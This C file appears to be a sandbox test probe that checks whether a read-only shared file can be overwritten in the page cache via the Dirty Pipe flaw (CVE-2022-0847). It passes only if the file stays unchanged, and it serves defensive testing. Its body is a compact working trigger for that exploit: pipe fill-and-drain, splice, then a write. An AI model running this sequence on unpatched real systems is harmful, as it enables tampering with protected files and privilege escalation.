/*
 * Attack: Overwrites a read-only file in the page cache through a pipe that still thinks it may merge (CVE-2022-0847). The file
 *     is one of the runtime.
 * Row: T1.10
 * Promise: HELD
 * Without: none alone: the kernel's own repair holds, and the filter where it refuses splice
 * Class: any
 */
#define _GNU_SOURCE
#include "probe.h"

int main(void)
{
    static char fill[65536];
    int pipes[2], target = open("/shared", O_RDONLY | O_CLOEXEC);
    char before[8] = "", after[8] = "";
    loff_t at = 0;

    CLAIM(target >= 0 && pread(target, before, sizeof before, 0) == sizeof before, "no shared file");
    if (pipe(pipes) == 0 && write(pipes[1], fill, sizeof fill) > 0 && read(pipes[0], fill, sizeof fill) > 0) {
        if (splice(target, &at, pipes[1], NULL, 1, 0) == 1 && write(pipes[1], "FREE", 4) < 0)
            NOTE("the pipe takes no more");
    }
    CLAIM(pread(target, after, sizeof after, 0) == sizeof after, "cannot read it again");
    CLAIM(memcmp(before, after, sizeof before) == 0, "the page cache was written");
    return verdict();
}
